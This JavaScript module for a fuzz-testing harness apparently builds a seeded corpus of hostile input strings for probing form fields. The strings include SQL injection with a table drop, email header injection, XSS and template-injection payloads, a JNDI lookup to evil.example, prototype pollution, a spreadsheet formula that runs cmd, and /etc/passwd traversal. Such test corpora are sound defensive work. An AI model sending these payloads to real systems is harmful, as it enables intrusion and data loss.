// Hostile texts: a well-known list and our own additions.
import { createRequire } from 'node:module';
import { seeded } from '../chaos/random.mjs';

const KNOWN = createRequire(import.meta.url)('big-list-of-naughty-strings');

const OURS = [
  'a\r\nX-Injected: 1',
  'a\r\nBcc: victim@example.com\r\n\r\nhello',
  'a\n.\nRCPT TO:<victim@example.com>',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'a\udc00b',
  '\u202egnp.exe',
  'a\u200b\u200d\ufeffb',
  '\u0001\u0008\u001b[2J',
  '\u2028\u2029',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"role":"SUPER_ADMIN"}}',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '@SUM(1+1)*cmd',
  '%',
  '_%',
  '\\',
  "' or 1=1 --",
  "'; drop table crm.client; --",
  '$1',
  '1) union select null, version() --',
  "a' || pg_sleep(10) || 'b",
  '<svg/onload=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><a href=javascript:alert(1)>",
  '<!--',
  ']]>',
  '&lt;script&gt;',
  '&#60;script&#62;',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://evil.example/?next=//evil.example',
  '../../../../etc/passwd',
  'file:///etc/passwd',
  'a'.repeat(201),
  'a'.repeat(5_001),
  `${'a'.repeat(60)}!`.repeat(50),
  'é'.normalize('NFD'),
  'ﬀ',
  '𝒳',
  '👩‍👩‍👧‍👦'.repeat(30),
  '-0',
  '1e999',
  'NaN',
  '2026-02-30',
  '0000-00-00',
  '9999-12-31',
  '+61412345678',
  'a@b.c\u0000d.example',
  'a@xn--80ak6aa92e.example',
  '"a b"@example.com',
  'a@example.com,victim@example.com',
  'a@example.com\nBcc: victim@example.com',
];

/** Draws samples of the texts; the same seed and label give the same sample. */
export class Corpus {
  texts = [...new Set([...KNOWN, ...OURS])];

  constructor({ seed, isWhole }) {
    Object.assign(this, { seed, isWhole });
  }

  /** Returns `count` texts, or all of them if there are fewer. */
  draw(label, count) {
    return seeded(this.seed, 'corpus', label).shuffled(this.texts).slice(0, count);
  }

  /** The texts for one field: all of them in the long form, otherwise a sample that differs from field to field. */
  forField(label, count) {
    return this.isWhole ? this.texts : this.draw(label, count);
  }
}
